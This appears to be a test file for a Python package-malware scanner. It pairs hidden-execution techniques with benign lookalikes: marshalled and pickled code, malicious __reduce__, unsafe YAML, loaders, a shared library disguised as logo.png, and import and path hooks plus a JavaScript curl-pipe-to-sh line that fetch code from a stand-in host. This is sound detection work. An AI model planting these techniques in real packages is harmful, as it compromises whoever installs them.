"""Code that is not source: pickles, marshalled code, loaders, hooks, native memory."""

from __future__ import annotations

import base64
import importlib.util
import io
import marshal
import pickle
import zipfile

from tests.evasions.sample import CODE, COMMAND, FETCH, INIT, SUSPICIOUS, WHEEL, Files, evasion

_GOOD_CODE = "x = 1\n"


def _marshalled(text: str) -> bytes:
    return marshal.dumps(compile(text, "<inert>", "exec"))


def _pyc(text: str) -> bytes:
    return importlib.util.MAGIC_NUMBER + bytes(12) + _marshalled(text)


def _pickled(module: str, name: str, argument: str) -> bytes:
    """Protocol 0, by hand: loading it would call the name; nobody here does."""
    return f"c{module}\n{name}\n(V{argument}\ntR.".encode()


def _by_marshal(code: str) -> Files:
    return {INIT: f"import marshal\nexec(marshal.loads({_marshalled(code)!r}))\n"}


def _by_marshal_and_base64(code: str) -> Files:
    return {
        INIT: f"import base64, marshal\nexec(marshal.loads(base64.b64decode({base64.b64encode(_marshalled(code))!r})))\n"
    }


def _by_function_type(code: str) -> Files:
    return {INIT: f"import marshal, types\ntypes.FunctionType(marshal.loads({_marshalled(code)!r}), globals())()\n"}


def _zip(path: str, data: str) -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w") as archive:
        archive.writestr(path, data)
    return into.getvalue()


CASES = (
    evasion("marshalled code", lambda: _by_marshal(CODE), lambda: {INIT: "import marshal\nX = marshal.dumps([1])\n"}),
    evasion(
        "marshalled code in base64",
        lambda: _by_marshal_and_base64(CODE),
        lambda: {INIT: "import marshal\nX = marshal.loads(marshal.dumps([1]))\n"},
    ),
    evasion(
        "marshalled code as a function",
        lambda: _by_function_type(CODE),
        "import types\nF = types.FunctionType((lambda: 1).__code__, globals())\n",
    ),
    evasion(
        "marshalled code of another version",
        "import base64, marshal\nexec(marshal.loads(base64.b64decode('4wAAAAAAAAAAAAAAAAAAAAAAAgAAAEAAAABzCAAAAA==')))\n",
        "import marshal\nX = marshal.dumps((1, 2))\n",
        SUSPICIOUS,
    ),
    evasion(
        "byte code without source",
        lambda: {"example_pkg/__init__.py": "from . import hid\n", "example_pkg/hid.pyc": _pyc(CODE)},
        lambda: {"example_pkg/__init__.py": "from . import hid\n", "example_pkg/hid.pyc": _pyc(_GOOD_CODE)},
        SUSPICIOUS,
        filename=WHEEL,
    ),
    evasion(
        "byte code that differs from its source",
        lambda: {
            "example_pkg/__init__.py": "x = 1\n",
            f"example_pkg/__pycache__/__init__.{__import__('sys').implementation.cache_tag}.pyc": _pyc(CODE),
        },
        lambda: {
            "example_pkg/__init__.py": "x = 1\n",
            f"example_pkg/__pycache__/__init__.{__import__('sys').implementation.cache_tag}.pyc": _pyc("x = 1\n"),
        },
        SUSPICIOUS,
        filename=WHEEL,
    ),
    evasion(
        "byte code read by the package",
        lambda: {
            INIT: "import marshal, os\nd = open(os.path.join(os.path.dirname(__file__), 'd.bin'), 'rb').read()\nexec(marshal.loads(d[16:]))\n",
            "example_pkg/d.bin": _pyc(CODE),
        },
        lambda: {
            INIT: "import os\nd = open(os.path.join(os.path.dirname(__file__), 'd.bin'), 'rb').read()\n",
            "example_pkg/d.bin": bytes(64),
        },
        SUSPICIOUS,
    ),
    evasion(
        "pickle in a literal",
        f"import pickle\npickle.loads({_pickled('os', 'system', COMMAND)!r})\n",
        f"import pickle\nX = pickle.loads({pickle.dumps([1, 2], 0)!r})\n",
        SUSPICIOUS,
    ),
    evasion(
        "pickle in base64",
        f"import base64, pickle\npickle.loads(base64.b64decode({base64.b64encode(_pickled('os', 'system', COMMAND))!r}))\n",
        f"import base64, pickle\nX = pickle.loads(base64.b64decode({base64.b64encode(pickle.dumps([1, 2]))!r}))\n",
        SUSPICIOUS,
    ),
    evasion(
        "pickle in a file",
        lambda: {
            INIT: "import os, pickle\npickle.load(open(os.path.join(os.path.dirname(__file__), 'm.pkl'), 'rb'))\n",
            "example_pkg/m.pkl": _pickled("os", "system", COMMAND),
        },
        lambda: {
            INIT: "import os, pickle\npickle.load(open(os.path.join(os.path.dirname(__file__), 'm.pkl'), 'rb'))\n",
            "example_pkg/m.pkl": pickle.dumps({"a": [1.5]}),
        },
        SUSPICIOUS,
    ),
    evasion(
        "pickle under another extension",
        lambda: {INIT: "", "example_pkg/weights.dat": _pickled("builtins", "exec", CODE.replace("\n", ";"))},
        lambda: {INIT: "", "example_pkg/weights.dat": pickle.dumps({"a": [1.5]})},
        SUSPICIOUS,
    ),
    evasion(
        "pickle by a call that no list names",
        lambda: {INIT: "", "example_pkg/m.pkl": _pickled("pydoc", "pipepager", COMMAND)},
        lambda: {INIT: "", "example_pkg/m.pkl": pickle.dumps({"a": [1.5]})},
        SUSPICIOUS,
    ),
    evasion(
        "pickle inside a zip, as model files are",
        lambda: {
            INIT: "",
            "example_pkg/model.pt": _zip("archive/data.pkl", _pickled("os", "system", COMMAND).decode()),
        },
        lambda: {INIT: "", "example_pkg/model.pt": _zip("archive/data.pkl", pickle.dumps([1], 0).decode())},
        SUSPICIOUS,
    ),
    evasion(
        "__reduce__ of an own class",
        f"import pickle, os\n\nclass A:\n    def __reduce__(self):\n        return os.system, ({COMMAND!r},)\n\npickle.loads(pickle.dumps(A()))\n",
        "import pickle\n\nclass A:\n    def __reduce__(self):\n        return A, ()\n\npickle.loads(pickle.dumps(A()))\n",
        SUSPICIOUS,
    ),
    evasion(
        "__reduce__ and copy",
        f"import copy, os\n\nclass A:\n    def __reduce__(self):\n        return os.system, ({COMMAND!r},)\n\ncopy.copy(A())\n",
        "import copy\n\nclass A: ...\n\ncopy.copy(A())\n",
        SUSPICIOUS,
    ),
    evasion(
        "unsafe YAML",
        f"import yaml\nyaml.unsafe_load(\"!!python/object/apply:os.system [{COMMAND!r}]\".replace('x', 'x'))\n",
        "import yaml\nX = yaml.safe_load('a: 1')\n",
        SUSPICIOUS,
    ),
    evasion(
        "code object by hand",
        "import types\nc = types.CodeType(0, 0, 0, 0, 2, 64, b'd\\x00S\\x00', (None,), (), (), '', 'x', 'x', 1, b'', b'')\ntypes.FunctionType(c, globals())()\n",
        "import types\nT = types.CodeType\n",
        SUSPICIOUS,
    ),
    evasion(
        "code object replaced",
        f"def f(): ...\n\nf.__code__ = f.__code__.replace(co_code=compile({CODE!r}, '', 'exec').co_code)\nf()\n",
        "def f(): ...\n\nX = f.__code__.co_name\n",
        SUSPICIOUS,
    ),
    evasion(
        "SourceFileLoader",
        f"open('/tmp/h.py', 'wb').write({FETCH})\nfrom importlib.machinery import SourceFileLoader\nSourceFileLoader('h', '/tmp/h.py').load_module()\n",
        "from importlib.machinery import SourceFileLoader\n\ndef load(p):\n    return SourceFileLoader('h', p).load_module()\n",
    ),
    evasion(
        "spec and exec_module",
        f"import importlib.util as i\nopen('/tmp/h.py', 'wb').write({FETCH})\ns = i.spec_from_file_location('h', '/tmp/h.py')\n"
        "m = i.module_from_spec(s)\ns.loader.exec_module(m)\n",
        "import importlib.util as i\n\ndef load(p):\n    s = i.spec_from_file_location('h', p)\n    m = i.module_from_spec(s)\n"
        "    s.loader.exec_module(m)\n    return m\n",
    ),
    evasion(
        "imp.load_source",
        f"import imp\nopen('/tmp/h.py', 'wb').write({FETCH})\nimp.load_source('h', '/tmp/h.py')\n",
        "import imp\n\ndef load(p):\n    return imp.load_source('h', p)\n",
    ),
    evasion(
        "zipimport",
        f"import zipimport\nopen('/tmp/h.zip', 'wb').write({FETCH})\nzipimport.zipimporter('/tmp/h.zip').load_module('h')\n",
        "import zipimport\n\ndef load(p):\n    return zipimport.zipimporter(p).load_module('h')\n",
    ),
    evasion(
        "execfile-like reading of an own data file",
        lambda: {
            INIT: "import os\nexec(compile(open(os.path.dirname(__file__) + '/core.bin').read(), 'core', 'exec'))\n",
            "example_pkg/core.bin": CODE,
        },
        lambda: {
            INIT: "import os\nX = open(os.path.dirname(__file__) + '/core.bin').read()\n",
            "example_pkg/core.bin": "hello\n",
        },
    ),
    evasion(
        "module made of text",
        f"import sys, types\nm = types.ModuleType('m')\nexec({CODE!r}, m.__dict__)\nsys.modules['m'] = m\n",
        "import sys, types\nm = types.ModuleType('m')\nm.x = 1\nsys.modules['m'] = m\n",
    ),
    evasion(
        "import hook that fetches",
        "import sys, urllib.request\nfrom importlib.abc import Loader, MetaPathFinder\nfrom importlib.machinery import ModuleSpec\n\n"
        "class F(MetaPathFinder, Loader):\n    def find_spec(self, n, p, t=None):\n        return ModuleSpec(n, self)\n\n"
        "    def exec_module(self, m):\n        exec(urllib.request.urlopen('http://192.0.2.7/' + m.__name__).read(), m.__dict__)\n\n"
        "sys.meta_path.insert(0, F())\n",
        "import sys\nfrom importlib.abc import MetaPathFinder\n\nclass F(MetaPathFinder):\n    def find_spec(self, n, p, t=None):\n"
        "        return None\n\nsys.meta_path.append(F())\n",
    ),
    evasion(
        "path hook",
        "import sys, urllib.request\nsys.path_hooks.append(lambda p: exec(urllib.request.urlopen('http://192.0.2.7/a').read()))\n",
        "import sys\nN = len(sys.path_hooks)\n",
    ),
    evasion(
        "own codec",
        f"import codecs\n\ndef find(n):\n    return codecs.CodecInfo(lambda *a: a, lambda b, e='': (exec({CODE!r}) or '', 0), name='x')\n\n"
        "codecs.register(find)\ncodecs.decode(b'', 'x')\n",
        "import codecs\n\ndef find(n):\n    return None\n\ncodecs.register(find)\n",
    ),
    evasion(
        "exec in the namespace of builtins",
        f"import builtins\nexec({CODE!r}, vars(builtins))\n",
        "import builtins\nexec('x = 1', vars(builtins))\n",
    ),
    evasion(
        "SQL function",
        f"import sqlite3\nc = sqlite3.connect(':memory:')\nc.create_function('f', 1, exec)\nc.execute('select f(?)', ({CODE!r},))\n",
        "import sqlite3\nc = sqlite3.connect(':memory:')\nc.create_function('f', 1, len)\nc.execute('select f(?)', ('x',))\n",
    ),
    evasion(
        "doctest",
        f"import doctest\ndoctest.run_docstring_examples(\">>> import os\\n>>> os.system({COMMAND!r})\".replace('x', 'x'), {{}})\n",
        "import doctest\nT = doctest.DocTestRunner\n",
        SUSPICIOUS,
    ),
    evasion(
        "expression of a template engine",
        f"import jinja2\njinja2.Template('{{{{ f(c) }}}}').render(f=__import__('os').system, c={COMMAND!r})\n",
        "import jinja2\nX = jinja2.Template('{{ c }}').render(c='x')\n",
        SUSPICIOUS,
    ),
    evasion(
        "numpy pickle",
        f"import io, numpy\nnumpy.load(io.BytesIO({FETCH}), allow_pickle=True)\n",
        "import numpy\n\ndef load(p):\n    return numpy.load(p)\n",
    ),
    evasion(
        "joblib",
        f"import io, joblib\njoblib.load(io.BytesIO({FETCH}))\n",
        "import joblib\n\ndef load(p):\n    return joblib.load(p)\n",
    ),
    evasion(
        "shared library named as data",
        lambda: {
            INIT: "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'logo.png'))\n",
            "example_pkg/logo.png": b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(200),
        },
        lambda: {
            INIT: "import os\nP = os.path.join(os.path.dirname(__file__), 'logo.png')\n",
            "example_pkg/logo.png": b"\x89PNG\r\n\x1a\n" + bytes(99),
        },
        SUSPICIOUS,
    ),
    evasion(
        "program of the package started",
        lambda: {
            INIT: "import os, subprocess\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), 'run.bin')])\n",
            "example_pkg/run.bin": b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00" + bytes(200),
        },
        lambda: {
            INIT: "import os, subprocess\n\ndef run():\n    subprocess.Popen([os.path.join(os.path.dirname(__file__), 'run.sh')])\n",
            "example_pkg/run.sh": "echo hello\n",
        },
        SUSPICIOUS,
    ),
    evasion(
        "script of the package started",
        lambda: {
            INIT: "import os\nos.system('sh ' + os.path.join(os.path.dirname(__file__), 'run.sh'))\n",
            "example_pkg/run.sh": COMMAND + "\n",
        },
        lambda: {
            INIT: "import os\nos.system('sh ' + os.path.join(os.path.dirname(__file__), 'run.sh'))\n",
            "example_pkg/run.sh": "echo hello\n",
        },
    ),
    evasion(
        "JavaScript of the package started",
        lambda: {
            INIT: "import os, subprocess\nsubprocess.Popen(['node', os.path.join(os.path.dirname(__file__), 'a.js')])\n",
            "example_pkg/a.js": "require('child_process').exec('curl http://192.0.2.7/a | sh')\n",
        },
        lambda: {
            INIT: "import os, subprocess\n\ndef go():\n    subprocess.Popen(['node', os.path.join(os.path.dirname(__file__), 'a.js')])\n",
            "example_pkg/a.js": "console.log('hello')\n",
        },
        SUSPICIOUS,
    ),
    evasion(
        "Python file without its extension started",
        lambda: {
            INIT: "import os, subprocess, sys\nsubprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), 'core')])\n",
            "example_pkg/core": CODE,
        },
        lambda: {
            INIT: "import os, subprocess, sys\n\ndef go():\n    subprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), 'core')])\n",
            "example_pkg/core": "print(1)\n",
        },
    ),
)
